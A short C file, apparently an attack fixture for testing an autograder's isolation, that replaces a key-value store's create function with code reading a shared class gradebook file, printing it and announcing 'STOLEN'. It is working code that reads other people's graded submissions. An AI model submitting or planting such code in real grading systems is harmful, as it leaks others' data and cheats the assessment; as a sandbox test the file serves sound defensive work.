/* Attack: reads what others have handed in. */
#include <stdio.h>
#include "kv.h"

kv *kv_create(void) {
    FILE *file = fopen("/tmp/grade/class/gradebook.csv", "r");
    for (int c; file && (c = fgetc(file)) != EOF;) {
        putchar(c);
    }
    puts(file ? "STOLEN" : "nothing");
    fflush(stdout);
    return NULL;
}
